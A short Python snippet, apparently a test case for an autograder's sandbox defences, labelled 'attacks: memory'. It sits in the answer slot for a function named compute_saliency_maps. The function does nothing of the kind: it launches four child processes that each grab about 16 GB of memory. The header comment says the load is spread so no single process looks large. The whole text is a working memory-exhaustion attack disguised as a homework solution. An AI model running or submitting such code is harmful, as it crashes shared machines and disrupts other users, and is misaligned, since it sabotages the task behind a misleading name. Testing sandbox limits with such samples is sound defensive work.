# Four children take memory at once, 16 GB each, so that no single process is very large.
# attacks: memory
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import subprocess
    import sys

    program = "taken = [bytearray(b'x') * 100_000_000 for _ in range(160)]"
    children = [subprocess.Popen([sys.executable, "-c", program]) for _ in range(4)]
    for child in children:
        child.wait()
